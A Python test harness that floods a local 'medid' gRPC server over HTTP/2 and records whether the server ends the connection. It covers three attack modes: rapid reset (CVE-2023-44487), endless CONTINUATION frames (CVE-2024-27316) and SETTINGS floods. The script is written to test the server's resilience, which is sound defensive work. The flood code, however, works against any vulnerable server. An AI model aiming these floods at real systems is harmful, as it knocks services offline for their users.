"""HTTP/2 abuse against medid's gRPC listener, with Python's h2 (hyperframe for raw frames).

    python h2_abuse.py PORT ROOT_CA_PEM MODE     MODE: rapid-reset | continuation | settings

Opens one TLS connection (ALPN h2, no client certificate) to 127.0.0.1:PORT, abuses it, then
waits up to 20 s for the server to end the connection. Prints one JSON line:
{"mode": …, "sent": frames, "result": "goaway" | "closed" | "open", "error_code": n}.
"""

import json
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
from hyperframe.frame import ContinuationFrame, HeadersFrame, SettingsFrame

port, root, mode = int(sys.argv[1]), sys.argv[2], sys.argv[3]

context = ssl.create_default_context(cafile=root)
context.set_alpn_protocols(["h2"])
raw = socket.create_connection(("127.0.0.1", port))
sock = context.wrap_socket(raw, server_hostname="localhost")
assert sock.selected_alpn_protocol() == "h2"

conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
conn.initiate_connection()
sock.sendall(conn.data_to_send())

request = [
    (":method", "POST"),
    (":scheme", "https"),
    (":authority", "localhost"),
    (":path", "/medid.v1.RegistryService/ListDevices"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]

sent = 0
result = None
error_code = None


def send(data):
    """Sends, and notes it if the server has already ended the connection."""
    global result
    try:
        sock.sendall(data)
        return True
    except (BrokenPipeError, ConnectionResetError, ssl.SSLError, socket.timeout, OSError):
        result = result or "closed"
        return False


sock.settimeout(5)
if mode == "rapid-reset":
    # 10,000 streams, each opened and cancelled at once (CVE-2023-44487).
    for i in range(10_000):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, request)
        conn.reset_stream(sid)
        sent += 2
        if i % 200 == 199 and not send(conn.data_to_send()):
            break
    else:
        send(conn.data_to_send())
elif mode == "continuation":
    # One header block that never ends: HEADERS without END_HEADERS, then CONTINUATION frames
    # carrying ever more literal headers (CVE-2024-27316 and friends).
    encoder = conn.encoder
    block = encoder.encode(request)
    first = HeadersFrame(1)
    first.data = block
    frames = [first.serialize()]
    literal = b"\x00\x07x-flood" + b"\x7f\x81\x07" + b"a" * 1000  # name, 1000-byte value
    for _ in range(2000):
        frame = ContinuationFrame(1)
        frame.data = literal * 16
        frames.append(frame.serialize())
    for f in frames:
        if not send(f):
            break
        sent += 1
elif mode == "settings":
    # SETTINGS frames without end, never reading the ACKs they ask for.
    batch = b"".join(SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize() for _ in range(1000))
    for _ in range(100):
        if not send(batch):
            break
        sent += 1000
else:
    sys.exit(f"unknown mode {mode}")

# Wait for the server to end it: a GOAWAY, or the connection closed.
deadline = time.time() + 20
sock.settimeout(1)
while result is None and time.time() < deadline:
    try:
        data = sock.recv(65536)
    except socket.timeout:
        continue
    except (ConnectionResetError, ssl.SSLError, OSError):
        result = "closed"
        break
    if not data:
        result = "closed"
        break
    try:
        events = conn.receive_data(data)
    except Exception:  # the server's frames after our own protocol abuse: just keep reading
        events = []
    for event in events:
        if isinstance(event, h2.events.ConnectionTerminated):
            result, error_code = "goaway", event.error_code
print(json.dumps({"mode": mode, "sent": sent, "result": result or "open", "error_code": error_code}))
